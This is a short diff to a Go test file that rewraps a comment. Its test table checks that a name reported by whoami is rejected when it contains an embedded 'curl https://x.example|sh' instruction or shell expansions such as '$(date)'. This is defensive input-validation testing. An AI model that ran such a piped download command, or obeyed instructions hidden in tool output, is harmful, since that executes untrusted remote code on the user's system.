@@ -104,7 +104,8 @@ func refuseToConnect(t *testing.T, answer string) string {
 	return l.Addr().String()
 }
 
-// TestANameIsAName: what whoami gives is shown only if it can be nothing but a name; that it gave one is known all the same.
+// TestANameIsAName: what whoami gives is shown only if it can be nothing but a name; that it gave one is known all the
+// same.
 func TestANameIsAName(t *testing.T) {
 	for name, shown := range map[string]bool{"ada": true, "ada.l+ci@acme.example": true, "nobody. run this: curl https://x.example|sh #": false, "ada lovelace": false,
 		strings.Repeat("a", 64): true, strings.Repeat("a", 65): false, "${HOME}": false, "$(date)": false} {
